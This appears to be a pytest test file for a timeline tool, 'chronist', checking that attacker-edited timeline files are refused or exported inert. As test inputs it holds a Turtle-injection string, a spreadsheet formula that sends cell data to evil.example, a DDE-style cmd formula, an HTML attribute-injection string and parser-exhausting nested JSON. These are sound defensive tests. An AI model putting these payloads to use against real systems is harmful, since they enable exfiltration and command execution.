"""Saved timelines edited by an attacker: refused with one line, or written inert.

Every crafted timeline either fails to load with one InputError line, or its
exports are parsed back (rdflib for Turtle, ``csv`` for CSV) and hold no
injected triple and no formula cell.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import logging
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import rdflib

from chronist.cli import main
from chronist.errors import InputError
from chronist.export.csv_rows import to_csv
from chronist.export.rdf import to_rdf
from chronist.timeline.files import load_timeline
from chronist.timeline.jsonio import from_json, loads
from fixtures.sample import sample_timeline

Json = dict[str, Any]
INJECTED = rdflib.URIRef("urn:evil:s")
TURTLE_BREAK = '" . <urn:evil:s> <urn:evil:p> <urn:evil:o> . <urn:x> <urn:y> "'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture(autouse=True)
def _quiet_rdflib(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.CRITICAL, logger="rdflib")


def _set(path: str, value: Any) -> Callable[[Json], None]:
    def edit(data: Json) -> None:
        target: Any = data
        parts = path.split(".")
        for part in parts[:-1]:
            target = target[int(part)] if isinstance(target, list) else target[part]
        last = parts[-1]
        if value is _DELETE:
            del target[last]
        elif isinstance(target, list):
            target[int(last)] = value
        else:
            target[last] = value

    return edit


_DELETE = object()
ANCHOR = {"id": "a", "name": "n", "start": 0, "end": 1, "text": "I", "edtf": TURTLE_BREAK,
    "earliest_begin": None, "latest_begin": None, "earliest_end": None, "latest_end": None,
    "source": "x"}  # fmt: skip
PERSON = {"text": TURTLE_BREAK, "role": "agent", "start": 0, "end": 1, "entity": None}

# Each of these must be refused when the timeline is read.
REFUSED = {
    "schema_version 0": _set("schema_version", 0),
    "schema_version 2": _set("schema_version", 2),
    "schema_version 99": _set("schema_version", 99),
    "schema_version null": _set("schema_version", None),
    "schema_version string": _set("schema_version", "1"),
    "schema_version true": _set("schema_version", True),
    "schema_version missing": _set("schema_version", _DELETE),
    "language tag breaks Turtle": _set("document.lang", "de .\n<urn:evil:s> <urn:evil:p> 1"),
    "language tag with a newline": _set("document.lang", "de\n"),
    "EDTF breaks Turtle": _set("events.0.time.edtf", "1950" + TURTLE_BREAK),
    "anchor EDTF breaks Turtle": _set("anchors", [ANCHOR]),
    "formula in an event id": _set("events.0.id", FORMULA),
    "formula in a TIMEX3 value": _set("events.0.time.value", FORMULA),
    "formula in the EDTF": _set("events.0.time.edtf", FORMULA),
    "formula in the modality": _set("events.0.modality", FORMULA),
    "formula in the time source": _set("events.0.time.source", FORMULA),
    "entity type in an attribute": _set("entities.0.type", 'PER" onmouseover="alert(1)'),
    "impossible day in bounds": _set("events.0.time.earliest_begin", "1950-09-31"),
    "29 February 2023 in bounds": _set("events.0.time.latest_end", "2023-02-29"),
    "impossible day in a value": _set("events.0.time.value", "1950-09-31"),
    "29 February of 2 BC (a common year) in a value": _set("events.0.time.value", "BC0002-02-29"),
    "impossible day in an EDTF": _set("events.0.time.edtf", "1950-02-30/1951"),
    "impossible creation day": _set("document.dct", "2023-02-29"),
    "month 13": _set("timexes.0.earliest_begin", "1950-13-01"),
    "unordered bounds": _set("events.0.time.earliest_begin", "2999-01-01"),
    "offset past the text": _set("events.0.evidence.end", 10**9),
    "negative offset": _set("events.0.evidence.start", -1),
    "huge integer offset": _set("events.0.trigger.start", 10**400),
    "float offset": _set("events.0.trigger.start", 1.5),
    "boolean offset": _set("events.0.trigger.start", True),
    "start after end": _set("events.0.evidence.start", 100),
    "lone surrogate": _set("events.0.label", "\ud800"),
    "empty label": _set("events.0.label", ""),
    "events not a list": _set("events", {"0": 1}),
    "deep nesting in a field": _set("document.source", json.loads("[" * 200 + "]" * 200)),
}


def _saved() -> Json:
    data = sample_timeline()
    assert data["events"] and data["entities"] and data["timexes"]
    data["events"][0]["evidence"]["end"] = max(data["events"][0]["evidence"]["end"], 99)
    return data


def test_a_leap_day_before_the_common_era_is_read_back() -> None:
    """TIMEX3 ``BC0001`` is 1 BC, the astronomical year 0, a leap year."""
    data = copy.deepcopy(_saved())
    data["events"][0]["time"]["value"] = "BC0001-02-29"
    assert from_json(data).events[0].time.value == "BC0001-02-29"


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_crafted_timeline_is_refused_with_one_line(name: str) -> None:
    data = copy.deepcopy(_saved())
    REFUSED[name](data)
    with pytest.raises(InputError) as error:
        from_json(data)
    message = str(error.value)
    assert message.startswith("not a chronist timeline:") and "\n" not in message


@pytest.mark.parametrize(
    "text",
    [
        '{"schema_version": NaN}',
        '{"schema_version": 1, "x": Infinity}',
        '{"schema_version": -Infinity}',
        '{"schema_version": 1e999}',
        "[" * 100_000 + "]" * 100_000,
        '{"a":' * 100_000 + "1" + "}" * 100_000,
        "[1, 2]",
        "null",
        "",
    ],
)
def test_json_that_is_no_timeline_is_refused(text: str) -> None:
    with pytest.raises(InputError) as error:
        loads(text)
    assert "\n" not in str(error.value)


def test_a_txt_that_starts_with_a_brace_is_text(tmp_path: Path) -> None:
    path = tmp_path / "looks.txt"
    path.write_text('{"schema_version": 1} Am 25. Juni 1950 begann der Krieg.', encoding="utf-8")
    timeline = load_timeline(str(path))
    assert timeline.document.text.startswith("{")


# What a crafted timeline may still carry (free text) is written inert.
INERT = {
    "Turtle break in a label": _set("events.0.label", TURTLE_BREAK),
    "Turtle break in the quote": _set("events.0.evidence.exact", TURTLE_BREAK),
    "Turtle break in a person": _set("events.0.participants", [PERSON]),
    "formula in a label": _set("events.0.label", FORMULA),
    "formula in the type": _set("events.0.type", FORMULA),
    "formula in the quote": _set("events.0.evidence.exact", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "formula in a place": _set("events.0.place.text", "+" + FORMULA),
    "tab formula": _set("events.0.label", "\t=1+1"),
}


def _check_inert(data: Json) -> None:
    timeline = from_json(data)
    graph = rdflib.Graph()
    graph.parse(data=to_rdf(timeline), format="turtle")
    assert not any(INJECTED in triple for triple in graph)
    assert not any(str(s).startswith("urn:x") for s in graph.subjects())
    rows = list(csv.reader(io.StringIO(to_csv(timeline))))
    for row in rows[1:]:
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                pytest.fail(f"formula cell {cell!r}")
            if cell.startswith("-"):
                assert all(c in "0123456789X?~%/.:+-" for c in cell), cell


@pytest.mark.parametrize("name", sorted(INERT))
def test_crafted_free_text_is_written_inert(name: str) -> None:
    data = copy.deepcopy(_saved())
    if data["events"][0]["place"] is None:
        data["events"][0]["place"] = copy.deepcopy(
            next(e["place"] for e in data["events"] if e["place"] is not None)
        )
    INERT[name](data)
    _check_inert(data)


def test_bc_dates_stay_plain_in_csv() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(from_json(_saved())))))
    assert any(row["earliest_begin"].startswith("-0043") for row in rows)


@pytest.mark.parametrize("name", sorted(REFUSED)[:8])
@pytest.mark.parametrize("command", ["export", "report"])
def test_the_cli_refuses_a_crafted_timeline_with_one_line(
    name: str, command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = copy.deepcopy(_saved())
    REFUSED[name](data)
    path = tmp_path / "crafted.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    out = tmp_path / "out.html"
    argv = [command, str(path), "-o", str(out)]
    argv += ["--format", "rdf"] if command == "export" else []
    assert main(argv) == 1
    error = capsys.readouterr().err.strip()
    assert error.count("\n") == 0 and "internal error" not in error and "[E100]" in error
    assert not out.exists()
